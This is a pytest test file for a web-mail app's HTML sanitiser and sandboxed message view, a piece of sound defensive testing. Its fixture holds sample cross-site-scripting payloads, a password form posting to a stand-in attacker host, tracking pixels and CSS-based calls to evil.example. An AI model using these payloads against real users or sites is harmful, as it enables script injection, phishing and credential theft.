"""The HTML body of a message as served to the sandboxed frame: hostile mail in, nothing
that runs, submits, redirects or phones home out (until the reader asks for images)."""

from __future__ import annotations

import re

import pytest

from tests import factories

pytestmark = pytest.mark.django_db

HOSTILE = """<html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<base href="https://evil.example/base/">
<style>body { background: url(https://evil.example/css-bg.png) }</style>
<script>document.title = 'pwned'</script>
</head><body>
<p>Beste klant,</p>
<img src="x" onerror="alert('onerror')">
<a href="javascript:alert('link')">Klik hier</a>
<a href="https://bank.example/login">Echte link</a>
<p style="width: expression(alert('expr')); color: red">Expressie</p>
<p style="background-image: url('https://evil.example/style-url.png')">Achtergrond</p>
<div style="color: blue; background: u\\72l(https://evil.example/escaped.png)">Escaped</div>
<svg xmlns="http://www.w3.org/2000/svg"><script>alert('svg')</script><circle r="5"/></svg>
<form action="https://evil.example/steal" method="post"><input name="password"><button>Verstuur</button></form>
<img src="https://tracker.example/pixel.gif?u=42" width="1" height="1">
<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<iframe src="https://evil.example/frame"></iframe>
<a href="data:text/html,<script>alert(1)</script>">Data-link</a>
</body></html>"""


@pytest.fixture
def hostile(office):
    return factories.stored(office.mailbox, factories.mime_message(text=None, html=HOSTILE))


def _body(client, message, query: str = "") -> tuple[str, object]:
    response = client.get(f"/email/messages/{message.pk}/body/{query}")
    assert response.status_code == 200
    return response.content.decode(), response


def test_the_served_body_keeps_the_text_and_drops_every_hostile_part(client, office, hostile):
    client.force_login(office.advisor)
    html, _response = _body(client, hostile)
    body = html.split("<body>", 1)[1]
    assert "Beste klant" in body and "Echte link" in body and "Expressie" in body
    for forbidden in (
        "<script",
        "onerror",
        "javascript:",
        "expression",
        "url(",
        "u\\72l",
        "<svg",
        "<form",
        "<input",
        "<iframe",
        "<meta",
        "<base",
        "evil.example",
        "tracker.example",
        "data:text",
        "alert(",
    ):
        assert forbidden not in body, forbidden
    assert "color:red" in body.replace(" ", "")
    assert 'href="https://bank.example/login"' in body
    assert 'target="_blank"' in body and 'rel="noopener noreferrer"' in body


def test_the_body_is_sandboxed_by_a_strict_content_security_policy(client, office, hostile):
    client.force_login(office.advisor)
    _html, response = _body(client, hostile)
    csp = response["Content-Security-Policy"]
    directives = dict(d.strip().split(" ", 1) for d in csp.split(";"))
    assert directives["default-src"] == "'none'"
    assert directives["img-src"] == f"http://testserver/email/messages/{hostile.pk}/inline/ data:"
    assert directives["style-src"] == "'unsafe-inline'"
    assert "script-src" not in directives  # falls back to default-src 'none'
    assert directives["form-action"] == "'none'" and directives["base-uri"] == "'none'"
    assert directives["frame-ancestors"] == "'self'"
    assert directives["sandbox"].split() == ["allow-popups", "allow-popups-to-escape-sandbox"]
    assert response["X-Frame-Options"] == "SAMEORIGIN"
    assert response["X-Content-Type-Options"] == "nosniff"


def test_the_page_embeds_the_body_in_a_sandboxed_frame_without_scripts(client, office, hostile):
    client.force_login(office.advisor)
    page = client.get(f"/email/messages/{hostile.pk}/").content.decode()
    frame = re.search(r"<iframe[^>]*>", page).group(0)
    assert f'src="/email/messages/{hostile.pk}/body/"' in frame
    sandbox = re.search(r'sandbox="([^"]*)"', frame).group(1).split()
    assert "allow-scripts" not in sandbox and "allow-same-origin" not in sandbox
    # No inline script on the page itself: a site-wide script-src 'self' must hold.
    assert not re.search(r"<script(?![^>]*\bsrc=)", page)
    assert "Beste klant" not in page  # the mail's markup lives only in the frame


def test_remote_images_wait_for_the_reader_to_ask_for_them_per_message(client, office, hostile):
    plain = factories.stored(
        office.mailbox, factories.mime_message(text=None, html="<p>Geen plaatjes</p>")
    )
    client.force_login(office.advisor)
    page = client.get(f"/email/messages/{hostile.pk}/").content.decode()
    assert "Afbeeldingen tonen" in page and 'href="?images=1"' in page
    assert "Afbeeldingen tonen" not in client.get(f"/email/messages/{plain.pk}/").content.decode()

    shown = client.get(f"/email/messages/{hostile.pk}/?images=1").content.decode()
    assert f'src="/email/messages/{hostile.pk}/body/?images=1"' in shown
    assert "Afbeeldingen tonen" not in shown
    html, response = _body(client, hostile, "?images=1")
    assert 'src="https://tracker.example/pixel.gif?u=42"' in html
    assert "https:" in response["Content-Security-Policy"].split("img-src", 1)[1].split(";")[0]
    # Everything else stays out when images are shown.
    assert "evil.example" not in html.split("<body>", 1)[1]
    # The choice is per message and per request: the plain view blocks them again.
    html, _response = _body(client, hostile)
    assert "tracker.example" not in html


def test_a_plain_text_message_is_shown_escaped_on_the_page(client, office):
    message = factories.stored(
        office.mailbox, factories.mime_message(text="<script>alert(1)</script>\nTot ziens")
    )
    client.force_login(office.advisor)
    page = client.get(f"/email/messages/{message.pk}/").content.decode()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "<iframe" not in page
